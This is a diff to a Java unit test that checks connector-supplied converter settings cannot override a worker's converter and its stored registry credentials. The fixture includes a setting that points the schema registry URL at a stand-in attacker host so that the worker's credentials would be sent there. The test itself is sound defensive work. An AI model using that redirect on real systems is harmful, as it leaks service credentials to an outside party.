@@ -8,6 +8,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.Optional;
@@ -184,6 +185,49 @@ class WorkerDefaultsTest {
     long before = time.milliseconds();
     assertSame(file, WorkerDefaults.atStart(time, () -> file));
     assertEquals(before, time.milliseconds());
+  }
+
+  @Test
+  void aConnectorsConverterSettingsWithoutItsClassNeverConfigureTheWorkersConverter()
+      throws Exception {
+    // Before: the connector's value.converter.* kept beside the worker's class and credentials,
+    // so a connector chose where the worker's converter sent the worker's credentials. Kafka
+    // builds the worker's converter from the worker's settings alone then.
+    WorkerDefaults worker =
+        new WorkerDefaults(
+            dir,
+            Map.of(
+                "value.converter", "io.confluent.connect.avro.AvroConverter",
+                "value.converter.schema.registry.url", "https://registry.internal",
+                "value.converter.basic.auth.user.info", "worker:secret",
+                "header.converter", "org.apache.kafka.connect.storage.SimpleHeaderConverter"));
+    Map<String, String> props =
+        Map.of(
+            "value.converter.schema.registry.url", "https://attacker.example",
+            "value.converter.basic.auth.credentials.source", "USER_INFO",
+            "header.converter.schemas.enable", "false",
+            "key.converter", "org.apache.kafka.connect.json.JsonConverter",
+            "key.converter.schemas.enable", "false",
+            "file", "/tmp/x");
+    Map<String, String> plugin = LegacyConfigs.forPlugins(props, worker);
+    assertEquals(worker.converter("value.converter"), subset(plugin, "value.converter"));
+    assertEquals(
+        Map.of("header.converter", "org.apache.kafka.connect.storage.SimpleHeaderConverter"),
+        subset(plugin, "header.converter"));
+    // A converter whose class the connector sets keeps the connector's own settings.
+    assertEquals("false", plugin.get("key.converter.schemas.enable"));
+    assertEquals("/tmp/x", plugin.get("file"));
+  }
+
+  private static Map<String, String> subset(Map<String, String> props, String prefix) {
+    Map<String, String> out = new HashMap<>();
+    props.forEach(
+        (k, v) -> {
+          if (k.startsWith(prefix)) {
+            out.put(k, v);
+          }
+        });
+    return out;
   }
 
   @Test
